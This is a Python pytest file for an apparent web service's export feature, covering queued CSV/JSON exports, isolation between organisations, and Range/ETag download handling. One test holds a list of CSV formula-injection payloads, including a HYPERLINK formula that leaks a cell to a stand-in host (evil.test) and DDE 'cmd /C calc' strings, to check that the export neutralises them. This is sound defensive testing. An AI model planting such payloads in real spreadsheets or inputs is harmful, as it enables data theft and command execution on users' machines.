"""Exports: requested with 202, produced off the request path, downloaded."""

from __future__ import annotations

import asyncio
import csv
import hashlib
import io
from pathlib import Path

import httpx
import pytest
from fastapi import FastAPI
from tests.support.app import World, make_settings

from keel.settings import Settings


@pytest.fixture
def settings(database_url: str, tmp_path: Path) -> Settings:
    """Exports run on the job queue: an in-process worker on both backends."""
    return make_settings(database_url, str(tmp_path / "blobs"), inprocess_worker="on")


async def wait_finished(
    client: httpx.AsyncClient, world: World, export_id: str
) -> dict[str, object]:
    for _ in range(200):
        body: dict[str, object] = (
            await client.get(f"/v1/exports/{export_id}", headers=world.alice.headers)
        ).json()
        if body["status"] in ("succeeded", "failed"):
            return body
        await asyncio.sleep(0.02)
    raise AssertionError("export did not finish within 4 s")


@pytest.mark.parametrize("fmt", ["csv", "json"])
async def test_export_contains_every_live_recognition(
    app: FastAPI, client: httpx.AsyncClient, world: World, fmt: str
) -> None:
    ids = []
    for i in range(5):
        body = {"recipient_id": world.bob.id, "message": f'm{i}, with "quotes"\nand lines'}
        ids.append(
            (await client.post("/v1/recognitions", json=body, headers=world.alice.headers)).json()[
                "id"
            ]
        )
    await client.delete(f"/v1/recognitions/{ids[0]}", headers=world.alice.headers)
    created = await client.post("/v1/exports", json={"format": fmt}, headers=world.alice.headers)
    assert created.status_code == 202
    export = created.json()
    assert set(export) >= {"id", "status", "format", "created_at"}
    assert export["format"] == fmt
    assert created.headers["location"] == f"/v1/exports/{export['id']}"
    done = await wait_finished(client, world, export["id"])
    assert done["status"] == "succeeded"
    assert done["row_count"] == 4
    content = await client.get(f"/v1/exports/{export['id']}/content", headers=world.alice.headers)
    assert content.status_code == 200
    if fmt == "csv":
        rows = list(csv.DictReader(io.StringIO(content.text)))
        assert sorted(r["id"] for r in rows) == sorted(ids[1:])
        assert rows[0]["message"].startswith('m1, with "quotes"\nand')
    else:
        items = content.json()
        assert sorted(item["id"] for item in items) == sorted(ids[1:])


async def test_export_of_another_org_does_not_leak_rows(
    client: httpx.AsyncClient, world: World
) -> None:
    await client.post(
        "/v1/recognitions",
        json={"recipient_id": world.bob.id, "message": "a"},
        headers=world.alice.headers,
    )
    export = (
        await client.post("/v1/exports", json={"format": "json"}, headers=world.mallory.headers)
    ).json()
    for _ in range(200):
        state = (
            await client.get(f"/v1/exports/{export['id']}", headers=world.mallory.headers)
        ).json()
        if state["status"] == "succeeded":
            break
        await asyncio.sleep(0.02)
    content = await client.get(f"/v1/exports/{export['id']}/content", headers=world.mallory.headers)
    assert content.json() == []


async def test_bad_format_is_422(client: httpx.AsyncClient, world: World) -> None:
    response = await client.post("/v1/exports", json={"format": "xml"}, headers=world.alice.headers)
    assert response.status_code == 422


FORMULAS = [
    ('=HYPERLINK("http://evil.test/?leak="&A1,"click me")', "+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"),
    ("\t=1+1", "=cmd"),
    ("\r=1+1", "@x"),
]


async def test_csv_export_neutralises_formulas_and_json_export_keeps_the_exact_text(
    client: httpx.AsyncClient, world: World
) -> None:
    stored = []  # as the API kept them (it may trim surrounding whitespace)
    for message, category in FORMULAS:
        body = {"recipient_id": world.bob.id, "message": message, "category": category}
        created = await client.post("/v1/recognitions", json=body, headers=world.alice.headers)
        assert created.status_code == 201, created.text
        stored.append((created.json()["message"], created.json()["category"]))
    contents = {}
    for fmt in ("csv", "json"):
        created = await client.post(
            "/v1/exports", json={"format": fmt}, headers=world.alice.headers
        )
        assert (await wait_finished(client, world, created.json()["id"]))["status"] == "succeeded"
        contents[fmt] = await client.get(
            f"/v1/exports/{created.json()['id']}/content", headers=world.alice.headers
        )
    rows = list(csv.DictReader(io.StringIO(contents["csv"].text, newline="")))
    assert sorted((r["message"], r["category"]) for r in rows) == sorted(
        ("'" + message, "'" + category) for message, category in stored
    )
    for row in rows:
        for cell in row.values():
            assert not cell or cell[0] not in "=+-@\t\r"
    for line in contents["csv"].text.splitlines():
        if line:
            assert line.startswith('"')  # every cell quoted
    items = contents["json"].json()
    assert sorted((i["message"], i["category"]) for i in items) == sorted(stored)


async def test_an_export_download_honours_range_and_if_none_match(
    client: httpx.AsyncClient, world: World
) -> None:
    body = {"recipient_id": world.bob.id, "message": "ranged"}
    for _ in range(3):
        created = await client.post("/v1/recognitions", json=body, headers=world.alice.headers)
        assert created.status_code == 201, created.text
    export = await client.post("/v1/exports", json={"format": "csv"}, headers=world.alice.headers)
    assert (await wait_finished(client, world, export.json()["id"]))["status"] == "succeeded"
    path = f"/v1/exports/{export.json()['id']}/content"
    whole = await client.get(path, headers=world.alice.headers)
    assert whole.status_code == 200
    data, etag = whole.content, whole.headers["etag"]
    assert etag == f'"{hashlib.sha256(data).hexdigest()}"'
    assert whole.headers["accept-ranges"] == "bytes"

    part = await client.get(path, headers={**world.alice.headers, "Range": "bytes=5-24"})
    assert part.status_code == 206, part.text
    assert part.content == data[5:25]
    assert part.headers["content-range"] == f"bytes 5-24/{len(data)}"

    same = await client.get(path, headers={**world.alice.headers, "If-None-Match": etag})
    assert same.status_code == 304
    assert same.content == b""

    past = await client.get(path, headers={**world.alice.headers, "Range": f"bytes={len(data)}-"})
    assert past.status_code == 416
    assert past.headers["content-type"] == "application/problem+json"
    assert past.headers["content-range"] == f"bytes */{len(data)}"
